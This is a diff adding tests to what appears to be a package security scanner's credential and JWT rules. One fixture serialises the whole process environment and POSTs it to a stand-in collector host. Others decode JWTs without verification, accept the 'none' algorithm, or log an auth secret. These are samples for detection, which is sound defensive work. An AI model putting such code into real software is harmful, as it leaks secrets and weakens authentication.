@@ -117,6 +117,22 @@ fetch("https://registry.example.com/-/ping", { headers: { "user-agent": process.
   });
 });
 
+describe("which files the credential rules read", () => {
+  it("follows the environment bound to a name, though the capability walk reports no variable read", () => {
+    expect(rules("const e = process.env;\nfetch('https://collector.example.net/c', { method: 'POST', body: JSON.stringify(e) });")).toContain("token-exfiltration:critical");
+  });
+
+  it("finds a JWT library's decode where requests are handled, and a 'none' algorithm, with no 'jwt' in the names", () => {
+    expect(rules("const { decode } = require('jsonwebtoken');\nmodule.exports = (req) => decode(req.headers.authorization).sub;")).toEqual(["jwt-unverified:medium"]);
+    expect(rules("module.exports = (lib, t, k) => lib.check(t, k, { algorithms: ['HS256', 'none'] });")).toEqual(["jwt-unverified:high"]);
+  });
+
+  it("does not take a feature switch for a token", () => {
+    expect(rules("if (process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS) console.log(process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS);")).toEqual([]);
+    expect(rules("console.log(process.env.NEXT_AUTH_SECRET);")).toEqual(["token-logging:medium"]);
+  });
+});
+
 describe("environment harvest", () => {
   it("finds the whole environment serialised and sent", () => {
     const source = `
